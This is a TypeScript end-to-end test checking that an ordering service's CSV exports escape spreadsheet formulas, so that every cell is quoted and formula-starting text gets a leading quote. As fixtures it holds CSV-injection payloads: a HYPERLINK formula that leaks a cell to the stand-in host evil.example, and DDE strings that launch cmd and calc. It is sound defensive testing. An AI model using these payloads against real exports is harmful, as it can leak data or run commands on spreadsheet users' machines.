import { parse } from 'csv-parse/sync';
import { Caller, startTestApp, TestApp, TestResponse } from '../support/app';
import {
  adminAgent,
  cancelBody,
  OFFERS,
  orderPath,
  placeOrderOk,
  registerCustomer,
  softwareIdOf,
} from '../e2e/e2e-helpers';

/** What a spreadsheet would run if the cell started with it (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;
const COMPANY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

interface ParsedCsv {
  rows: Record<string, string>[];
  unquoted: number;
}

function parseCsv(res: TestResponse): ParsedCsv {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
  let unquoted = 0;
  const rows = parse(res.text, {
    columns: true,
    strict: true,
    skip_empty_lines: true,
    cast: (value: string, context: { quoting: boolean }) => {
      if (!context.quoting) unquoted++;
      return value;
    },
  } as never) as Record<string, string>[];
  return { rows, unquoted };
}

// The CSV exports through the whole service: user-controlled text that a spreadsheet would run as a formula
// (company name, UPN) comes out as text, prefixed with ', and every cell of both exports is quoted.
describe('CSV exports are safe to open in a spreadsheet', () => {
  let t: TestApp;
  const agent: Caller = { ...adminAgent(), upn: '@SUM(1+1)*cmd|"/C calc"!A0' };
  const partner = agent.tenantId;
  const as = (role: string, upn = `-2+3+cmd|' /C calc'!A0`): Caller => ({ tenantId: partner, roles: [role], upn });
  let position = 0;
  let customerId: string;
  let orderId: string;
  const track = (res: TestResponse): TestResponse => {
    position = Math.max(position, Number(res.headers.get('x-event-position')) || 0);
    return res;
  };

  beforeAll(async () => {
    t = await startTestApp();
    customerId = (await registerCustomer(t, agent, 'PL', { companyName: COMPANY })).id;
    const order = await placeOrderOk(t, agent, customerId, [
      { offerId: OFFERS.perpetual },
      { offerId: OFFERS.subscription1y },
    ]);
    orderId = order.id;
    const softwarePath = `/v1/customers/${customerId}/software/${softwareIdOf(orderId, 0)}`;
    expect(track(await t.request('POST', `${softwarePath}/key`, { as: agent, body: { version: '2022' } })).status).toBe(
      200,
    );
    const cancel = track(await t.request('PATCH', orderPath(customerId, orderId), { as: agent, body: cancelBody() }));
    expect(cancel.status).toBe(200);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('/v1/auditrecords: company name and UPN are neutralised with a leading quote, every cell quoted', async () => {
    const res = await t.request('GET', `/v1/auditrecords?minPosition=${position}`, {
      as: as('Auditor'),
      headers: { accept: 'text/csv' },
    });
    const { rows, unquoted } = parseCsv(res);
    expect(unquoted).toBe(0);
    expect(rows.length).toBeGreaterThanOrEqual(3);
    expect(rows.every((r) => r.customerName === `'${COMPANY}`)).toBe(true);
    const byAgent = rows.filter((r) => r.operationType === 'get_software_key' && r.userPrincipalName.includes('SUM'));
    expect(byAgent.map((r) => r.userPrincipalName)).toEqual([`'${agent.upn}`]);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA_START);
    // The JSON view keeps the text as given: neutralising is the CSV's concern.
    const json = await t.request('GET', `/v1/auditrecords?minPosition=${position}`, { as: as('Auditor') });
    expect(json.body.items[0].customerName).toBe(COMPANY);
  });

  it('/v1/credits: every cell quoted, none starting with a formula character', async () => {
    const period = new Date(t.clock.now()).toISOString().slice(0, 7);
    const res = await t.request('GET', `/v1/credits?minPosition=${position}&period=${period}`, {
      as: as('BillingAdmin'),
      headers: { accept: 'text/csv' },
    });
    const { rows, unquoted } = parseCsv(res);
    expect(unquoted).toBe(0);
    expect(rows.map((r) => [r.orderId, r.lineItemNumber])).toEqual([
      [orderId, '0'],
      [orderId, '1'],
    ]);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA_START);
    // Empty cells (a pending line has no postedAt) are quoted too.
    expect(res.text.split('\r\n')[1]).toMatch(/^"[^"]/);
  });
});
